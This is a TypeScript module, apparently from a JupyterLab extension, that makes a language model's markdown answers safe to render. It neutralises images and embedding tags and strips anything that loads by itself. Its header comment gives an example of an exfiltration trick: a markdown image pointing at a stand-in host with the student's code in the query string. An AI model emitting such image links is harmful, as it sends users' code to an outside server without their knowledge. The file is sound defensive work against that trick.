/**
 * The model's markdown, made safe to render in the panel.
 *
 * JupyterLab's renderer sanitizes HTML (no scripts, no event handlers) but keeps
 * images and would fetch them: an answer with `![](https://x.example/?q=<code>)`
 * would send the student's code to that server the moment it is shown. So before
 * rendering, images become their alt text and embedding HTML tags are escaped
 * (outside code, which is shown as text anyway); after rendering, anything that
 * still loads by itself is removed and links open in a new tab without a referrer.
 */

const FENCE = /^( {0,3})(`{3,}|~{3,})[^\n]*\n[\s\S]*?(?:\n\1\2[^\S\n]*(?=\n|$)|$)/gm;
const INLINE_CODE = /(`+)[^`]*?\1/g;
const IMAGE = /!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])/g;
const EMBEDDING_TAG =
  /<(\/?)(img|picture|source|video|audio|iframe|frame|object|embed|link|meta|base|style|svg|image|form|input|script)\b/gi;
const LOADING =
  'img, picture, source, video, audio, iframe, frame, object, embed, link, style, svg, image';

/**
 * `markdown` with images and embedding tags neutralised outside code.
 */
export function safeMarkdown(markdown: string): string {
  const code: string[] = [];
  const keep = (match: string) => {
    code.push(match);
    return `\u0000${code.length - 1}\u0000`;
  };
  let text = markdown.replace(FENCE, keep).replace(INLINE_CODE, keep);
  text = text
    .replace(IMAGE, (_match, alt: string) => (alt.trim() ? `[${alt.trim()}]` : ''))
    .replace(EMBEDDING_TAG, (_match, slash: string, tag: string) => `&lt;${slash}${tag}`);
  // eslint-disable-next-line no-control-regex
  return text.replace(/\u0000(\d+)\u0000/g, (_match, index: string) => code[Number(index)]);
}

/**
 * After rendering: drop what could still load by itself, and make links inert
 * until clicked (new tab, no referrer, no opener).
 */
export function hardenRendered(node: HTMLElement): void {
  node.querySelectorAll(LOADING).forEach(element => element.remove());
  node.querySelectorAll('[style], [srcset], [background], [poster]').forEach(element => {
    ['style', 'srcset', 'background', 'poster'].forEach(name => element.removeAttribute(name));
  });
  node.querySelectorAll('a').forEach(link => {
    const href = link.getAttribute('href') ?? '';
    if (!/^(https?:|mailto:|#)/i.test(href)) {
      link.removeAttribute('href');
    }
    link.setAttribute('target', '_blank');
    link.setAttribute('rel', 'noopener noreferrer nofollow');
  });
}
